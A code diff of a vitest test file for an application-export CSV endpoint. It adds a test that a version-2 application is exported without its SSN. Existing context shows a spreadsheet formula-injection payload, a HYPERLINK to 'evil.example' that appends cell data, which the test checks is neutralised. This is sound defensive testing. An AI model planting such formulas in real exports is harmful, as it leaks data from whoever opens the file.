@@ -2,7 +2,12 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { applicationListing } from '../../../src/schema/backoffice';
 import { makeSubmission } from '../../../test/fixtures/applications';
 import { sealSubmission } from '../sealing/seal-like-a-browser';
-import { postApplication, startTestServer, type TestServer } from '../test-support';
+import {
+  makeSubmissionV2,
+  postApplication,
+  startTestServer,
+  type TestServer,
+} from '../test-support';
 import { csvCell } from './csv';
 
 let server: TestServer;
@@ -109,5 +114,16 @@ describe('GET /api/v1/applications/export.csv?since= (staff)', () => {
       `"'=HYPERLINK(""http://evil.example/?""&B2,""Ver"")","Núñez","1990-04-12","3","52000","MA","02118"`,
     );
     expect(text.split('\r\n').filter((l) => /^"'?=/.test(l))).toEqual([]);
+  });
+
+  it('summarises a version-2 application by its first member and household, without the SSN', async () => {
+    const sub = makeSubmissionV2();
+    await postApplication(server.url, assister, sub);
+    const res = await get(`/api/v1/applications/export.csv?since=${since}`, staff);
+    const text = await res.text();
+    const line = text.split('\r\n').find((l) => l.includes(sub.id)) ?? '';
+    expect(line).toContain(`"2","","","plain",`);
+    expect(line).toContain('"Ana","Diaz","1990-04-12","3","","MA","02118"');
+    expect(text).not.toContain(sub.application.members[0]?.ssn ?? 'no ssn');
   });
 });
